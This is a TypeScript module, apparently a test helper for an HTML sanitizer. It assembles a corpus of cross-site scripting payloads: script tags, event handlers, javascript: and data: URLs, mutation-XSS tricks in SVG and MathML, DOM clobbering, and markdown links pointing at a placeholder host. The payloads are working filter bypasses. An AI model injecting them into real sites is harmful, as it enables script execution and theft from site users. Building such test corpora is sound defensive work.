import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { z } from 'zod'

/** What a script that runs does here, in the ways that people write it: each is noticed. */
const CALLS = ['alert(1)', 'window.hit=1', 'confirm`1`', "top['al'+'ert'](1)"]

/** Ways to have a script run, or something loaded, from HTML; CALL stands for the script, HOST for a stranger's server. */
const TEMPLATES = [
  '<script>CALL</script>',
  '<ScRiPt>CALL</sCrIpT>',
  '<script src="http://HOST/s.js"></script>',
  '<script type="module">CALL</script>',
  '<img src=x onerror="CALL">',
  '<img src=x onerror=CALL//',
  '<img/src="x"/onerror=CALL>',
  '<img src="http://HOST/i.png">',
  '<img srcset="http://HOST/i.png 1x, http://HOST/j.png 2x">',
  '<picture><source srcset="http://HOST/p.png"><img src=x onerror=CALL></picture>',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set onbegin="CALL" attributeName="x"></svg>',
  '<svg><a xlink:href="javascript:CALL"><text y="20">click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=CALL></svg>#x"></svg>',
  '<svg><foreignObject><iframe onload=CALL></iframe></foreignObject></svg>',
  '<svg><image href="http://HOST/svg.png"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<math href="javascript:CALL">click</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<template><img src=x onerror=CALL></template>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<iframe src="http://HOST/frame"></iframe>',
  '<iframe onload=CALL></iframe>',
  '<object data="http://HOST/object"></object>',
  '<object data="javascript:CALL"></object>',
  '<embed src="http://HOST/embed">',
  '<embed src="javascript:CALL">',
  '<video src="http://HOST/v.mp4" autoplay onerror=CALL></video>',
  '<video poster="http://HOST/poster.png"></video>',
  '<audio src="http://HOST/a.mp3" onerror=CALL></audio>',
  '<video><source onerror=CALL></video>',
  '<track src="http://HOST/t.vtt">',
  '<body onload=CALL>',
  '<body background="http://HOST/background">',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL></select>',
  '<textarea autofocus onfocus=CALL></textarea>',
  '<keygen autofocus onfocus=CALL>',
  '<details open ontoggle=CALL>',
  '<marquee onstart=CALL>x</marquee>',
  '<div onclick=CALL onmouseover=CALL onpointerover=CALL>over</div>',
  '<p style="background:url(http://HOST/style)">styled</p>',
  '<p style="animation: x 1s" onanimationend=CALL>animated</p>',
  '<style>@import url(http://HOST/sheet.css); * { background: url(http://HOST/star) }</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=CALL></p>',
  '<link rel="stylesheet" href="http://HOST/link.css">',
  '<link rel="prefetch" href="http://HOST/prefetch">',
  '<link rel="preload" as="image" href="http://HOST/preload">',
  '<link rel="icon" href="http://HOST/icon">',
  '<link rel="modulepreload" href="http://HOST/module.js">',
  '<base href="http://HOST/">',
  '<meta http-equiv="refresh" content="0;url=http://HOST/refresh">',
  '<meta http-equiv="refresh" content="0;url=javascript:CALL">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<form action="http://HOST/form"><input type=submit autofocus></form>',
  '<form action="javascript:CALL"><button>send</button></form>',
  '<button formaction="javascript:CALL">send</button>',
  '<isindex action="javascript:CALL" type=submit value=click>',
  '<a href="javascript:CALL">a link</a>',
  '<a href="java&#9;script:CALL">a link</a>',
  '<a href="&#106;avascript:CALL">a link</a>',
  '<a href=" javascript:CALL">a link</a>',
  '<a href="data:text/html,<script>CALL</script>">a link</a>',
  '<a href="vbscript:CALL">a link</a>',
  '<a href="file:///etc/passwd">a link</a>',
  '<a href="https://example.org/" ping="http://HOST/ping">a link</a>',
  '<area href="javascript:CALL" shape=default>',
  '<table background="http://HOST/table"><td background="javascript:CALL">cell</td></table>',
  '<xmp><p title="</xmp><img src=x onerror=CALL>">',
  '<title><img src=x onerror=CALL></title>',
  '<!--><img src=x onerror=CALL>-->',
  '<![CDATA[><img src=x onerror=CALL>]]>',
  '"><img src=x onerror=CALL>',
  "'-CALL-'",
  '{{constructor.constructor("CALL")()}}',
  '${CALL}',
  '<x onclick=CALL contenteditable tabindex=1 onfocus=CALL autofocus>any</x>',
  '<img name=getElementById><img id=body name=body><form name=createElement>',
  '<p id="root">clobbered</p><div id="api" name="api"></div>',
  '[a link](javascript:CALL)',
  '![a picture](http://HOST/markdown.png)',
  '[a link]: javascript:CALL "title"\n\n[a link]',
  '<javascript:CALL>',
  '[a](http://example.org/"onmouseover="CALL)',
]

/** A host that answers nothing and that nobody has: whatever asks for it was let through. */
export const STRANGER = 'stranger.invalid'

/**
 * Script injections: our own, each with one of the calls, and those of `folder` when it is given: lines of
 * `xss/payloads.txt`, and the payloads of `xss/dompurify.json`.
 */
export function payloads(folder: string | undefined): string[] {
  const own = TEMPLATES.map((template, index) =>
    template
      .replaceAll('CALL', CALLS[index % CALLS.length] ?? '')
      .replaceAll('HOST', `${STRANGER}/${index}`)
      .replaceAll(`${STRANGER}/${index}/`, `${STRANGER}/${index}-`),
  )
  if (folder === undefined) return own
  const lines = join(folder, 'xss', 'payloads.txt')
  const cases = join(folder, 'xss', 'dompurify.json')
  return [
    ...own,
    ...(existsSync(lines)
      ? readFileSync(lines, 'utf8')
          .split('\n')
          .filter((line) => line.trim() !== '')
      : []),
    ...(existsSync(cases)
      ? z
          .array(z.object({ payload: z.string() }))
          .parse(JSON.parse(readFileSync(cases, 'utf8')))
          .map(({ payload }) => payload)
      : []),
  ]
}
